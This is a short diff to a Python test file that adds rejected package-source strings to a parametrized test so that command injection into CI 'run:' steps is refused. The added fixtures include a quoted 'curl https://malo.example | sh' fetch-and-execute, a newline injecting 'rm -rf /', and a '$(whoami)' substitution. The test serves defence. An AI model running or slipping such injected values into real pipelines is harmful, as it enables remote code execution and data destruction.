@@ -145,6 +145,10 @@ def test_fuentes_aceptadas(
         "git+https://git.ejemplo.mx/caja-ga.git",
         "../fuera.whl",
         "ci/no-existe.whl",
+        # Lo que iría a un `run:` de la CI: nunca órdenes inyectadas.
+        'git+https://git.ejemplo.mx/caja-ga.git@v1" && curl https://malo.example | sh #',
+        "git+https://git.ejemplo.mx/caja-ga.git@v1\n      - run: rm -rf /",
+        "git+https://git.ejemplo.mx/caja-ga.git@$(whoami)",
     ],
 )
 def test_fuentes_rechazadas_no_escriben_nada(caja_ga: CajaGa, tmp_path: Path, fuente: str) -> None:
